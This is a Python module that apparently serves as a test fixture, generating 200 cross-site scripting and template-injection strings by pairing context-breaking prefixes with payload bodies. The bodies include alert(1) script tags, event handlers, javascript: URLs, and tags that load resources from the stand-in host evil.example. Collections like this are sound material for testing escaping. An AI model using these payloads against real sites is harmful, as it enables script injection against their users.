"""Two hundred texts that a careless page or paper would run instead of showing."""

OPENINGS = ("", '"', "'", "-->", "</textarea>", "</title>", "</script>", "]]>", "`", "\\")
PAYLOADS = tuple(
    opening + body
    for opening in OPENINGS
    for body in (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>", "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<div hx-get=/ hx-trigger=load>", "<math><mi//xlink:href=javascript:alert(1)>",
        "<object data=javascript:alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
        "<form action=javascript:alert(1)><button>", "<base href=//evil.example>", "<link rel=import href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<style>@import'//evil.example'</style>",
        "{{ config }}", "${alert(1)}",
    )
)  # fmt: skip
